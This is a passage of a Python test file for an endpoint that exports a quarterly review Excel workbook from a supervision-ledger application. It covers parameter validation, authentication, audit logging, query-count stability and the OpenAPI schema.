        ({"quarter": "2026Q3", "deadline_after": "yesterday"}, "deadline"),
        ({"quarter": "0000Q1"}, "quarter"),  # well-formed, but no calendar has year 0
        ({"quarter": "9999Q4"}, "quarter"),
        ({"period_start": "0001-01-01", "period_end": "0001-03-31"}, "period_start"),
    ],
)
def test_bad_parameters_are_400_in_chinese_and_not_audited(world, params, field):
    mark = audit_mark()
    response = client_for(world.office).get(URL, params)
    assert_error(response, 400, code="invalid", field=field)
    assert new_events(mark) == []


def test_anonymous_is_refused(world):
    mark = audit_mark()
    assert_error(client_for(None).get(URL, Q3), 401)
    assert_error(Client().get(URL, Q3), 401)
    assert new_events(mark) == [] and not AuditEvent.objects.filter(action="quarterly_review_exported").exists()


def test_the_function_gives_the_same_workbook_without_an_audit_record(world, ledger):
    mark = audit_mark()
    content = quarterly_review_workbook(user=world.office, params={"quarter": "2026q3", "lead_unit": str(world.env.pk)})
    assert new_events(mark) == []
    wb = openpyxl.load_workbook(io.BytesIO(content))
    assert summary_values(wb["汇总"])["事项总数"] == 2  # R3 R7
    assert [r["台账编号"] for r in table(wb["超期清单"], "序号")[0]] == [ledger.r3.code]


def test_query_count_does_not_grow_with_the_ledger(world, ledger, clock):
    def queries():
        client = client_for(world.office)
        client.get(URL, Q3)  # warm the token
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(URL, Q3)
        assert response.status_code == 200
        return len(ctx.captured_queries)

    before = queries()
    # More units, leaders and overdue items with explanations and rulings.
    clock(at(6, 1))
    units = [UnitFactory(name=f"扩展单位{i}") for i in range(3)]
    added = []
    for n, unit in enumerate(units):
        leader = UserFactory(username=f"lead{n}", roles=[Role.LEADER], clearance=Classification.CONFIDENTIAL)
        item = make_item(
            ItemStatus.IN_PROGRESS,
            office=world.office,
            lead_unit=unit,
            owner=UserFactory(unit=unit, roles=[Role.UNIT_HANDLER]),
            supporting_units=[world.edu],
            instruction=make_instruction(office=world.office, issuing_leader=leader),
            deadline=D(2026, 8, 3 + n),
            title=f"扩展{n}",
        )
        Item.objects.filter(pk=item.pk).update(assigned_at=at(7, 1))
        added.append(item)
    clock(NOW)  # the office rules once the units' time to explain has passed
    for item in added:
        for explanation in overdue_explanations_open(item=item, today=D(2026, 8, 20)):
            overdue_explanation_rule(
                actor=world.office, explanation=explanation, ruling=Ruling.ACCOUNTABILITY, comment="逾期未说明"
            )
    after = queries()
    wb = workbook(world.office, Q3)
    assert summary_values(wb["汇总"])["超期（当前）"] == 4 + 3
    assert len(table(wb["超期说明及认定"], "序号")[0]) == 3 + 6  # two units each
    assert before == after, (before, after)
    # The 基层负担 sheet reads a fixed handful of queries per week of the quarter (14 weeks at most),
    # whatever the ledger's size: the point is before == after above.
    assert after <= 100, after


def test_schema_documents_the_workbook(world):
    schema = Client().get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()
    operation = schema["paths"][URL]["get"]
    params = {p["name"] for p in operation["parameters"]}
    assert {"quarter", "period_start", "period_end", "order", "unit", "lead_unit", "issuing_leader", "instruction_kind"} <= params
    assert {"category", "urgency"} <= params and "ordering" not in params
    assert XLSX_CONTENT_TYPE in operation["responses"]["200"]["content"]
    assert operation["responses"]["200"]["content"][XLSX_CONTENT_TYPE]["schema"] == {"type": "string", "format": "binary"}
    assert operation["security"]
    assert "季度盘点" in operation["summary"]
